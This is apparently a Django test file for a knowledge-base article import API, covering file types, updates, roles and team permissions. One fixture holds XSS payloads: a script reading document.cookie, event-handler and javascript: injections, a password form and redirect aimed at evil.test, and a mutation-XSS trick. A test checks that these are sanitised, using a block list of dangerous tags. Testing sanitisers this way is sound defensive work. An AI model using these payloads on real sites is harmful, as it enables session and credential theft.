"""Importing files through the API."""

from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile

from kb.models import Article, Chunk, Source
from people.models import User
from tests.cast import Cast

HOSTILE = b"""<html><head><title>T</title><style>x{}</style></head><body>
<h1>Export <img src=x onerror=alert(1)></h1>
<script>alert(document.cookie)</script><iframe src=//evil.test></iframe>
<p onclick="x()">Run <a href="javascript:alert(1)">this</a> and <svg onload=alert(2)>that</svg>.</p>
<form action=//evil.test><input name=password></form><meta http-equiv=refresh content="0;url=//evil.test">
<a href="vbscript:x">b</a><math><mtext></p><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
</body></html>"""


def send(cast: Cast, user: User, files: dict[str, bytes], **values: Any) -> Any:
    api = cast.api(user)
    uploads = [SimpleUploadedFile(name, content) for name, content in files.items()]
    return api.client.post("/api/v1/articles/import", {"files": uploads} | values, headers=api.headers)


def outcomes(response: Any) -> list[tuple[str, str]]:
    assert response.status_code == 200, response.content
    return [(row["file"], row["outcome"]) for row in response.json()["results"]]


def test_markdown_and_html_become_articles(cast: Cast) -> None:
    files = {
        "rotate-a-key.md": b"---\nproduct_area: exports\n---\n# Rotate a key\n\n## Steps\n\nRun it.",
        "guide.html": b"<title>Guide</title><body><p>Read it.</p></body>",
    }
    response = send(cast, cast.supervisor, files, status="published", brand=cast.brand.slug)
    assert outcomes(response) == [("rotate-a-key.md", "created"), ("guide.html", "created")]
    rows = Article.objects.order_by("title").values_list("title", "status", "product_area", "brand_ids")
    assert list(rows) == [
        ("Guide", "published", "", [cast.brand.pk]),
        ("Rotate a key", "published", "exports", [cast.brand.pk]),
    ]
    assert Chunk.objects.count() == 2


def test_unchanged_files_cost_nothing_and_changed_ones_update(cast: Cast) -> None:
    send(cast, cast.supervisor, {"a.md": b"# A\n\nOne", "b.md": b"# B\n\nOne"})
    again = send(cast, cast.supervisor, {"a.md": b"# A\n\nOne", "b.md": b"# B\n\nTwo"})
    assert outcomes(again) == [("a.md", "unchanged"), ("b.md", "updated")]
    assert list(Article.objects.order_by("title").values_list("body_markdown", "content_version")) == [
        ("One", 1),
        ("Two", 2),
    ]
    source = Source.objects.get()
    assert (source.item_count, source.unchanged_count, source.updated_count) == (2, 1, 1)


def test_hostile_html_is_harmless(cast: Cast) -> None:
    assert outcomes(send(cast, cast.supervisor, {"x.html": HOSTILE}, status="published")) == [
        ("x.html", "created")
    ]
    article = Article.objects.get()
    text = article.body_html + article.title + " ".join(Chunk.objects.values_list("text", flat=True))
    for bad in (
        "<script",
        "onerror=",
        "onclick",
        "javascript:",
        "<iframe",
        "<form",
        "<input",
        "<meta",
        "<svg",
        "vbscript",
    ):
        assert bad not in article.body_html, bad
    assert "document.cookie" not in text
    assert article.title == "Export"


def test_one_bad_file_does_not_stop_the_others(cast: Cast) -> None:
    files = {
        "a.exe": b"MZ",
        "empty.md": b" ",
        "good.md": b"# Good\n\nText",
        "odd.md": b"---\naudience: x\n---\nText",
    }
    response = send(cast, cast.supervisor, files)
    assert outcomes(response) == [
        ("a.exe", "failed"), ("empty.md", "failed"), ("good.md", "created"), ("odd.md", "failed"),
    ]  # fmt: skip
    assert response.json()["results"][0]["detail"]
    assert "a.exe" in Source.objects.get().last_error


def test_import_as_draft_takes_nothing_from_readers(cast: Cast) -> None:
    send(cast, cast.supervisor, {"a.md": b"# A\n\nOne"}, status="published")
    send(cast, cast.supervisor, {"a.md": b"# A\n\nTwo"}, status="draft")
    assert Article.objects.get().status == "published"


def test_roles(cast: Cast) -> None:
    files = {"a.md": b"# A\n\nOne"}
    assert send(cast, cast.read_only, files).status_code == 403
    assert send(cast, cast.agent, files, status="published").status_code == 403
    assert send(cast, cast.agent, files).status_code == 200
    assert not Chunk.objects.exists()


def test_stranger_cannot_import_over_another_teams_article(cast: Cast) -> None:
    send(cast, cast.admin, {"a.md": b"# A\n\nOne"})
    Article.objects.update(
        audience="teams", audience_team_ids=[cast.other_team.pk], audience_keys=["every-team"]
    )
    response = send(cast, cast.agent, {"a.md": b"# A\n\nTaken over"})
    assert outcomes(response) == [("a.md", "failed")]
    assert Article.objects.get().body_markdown == "One"
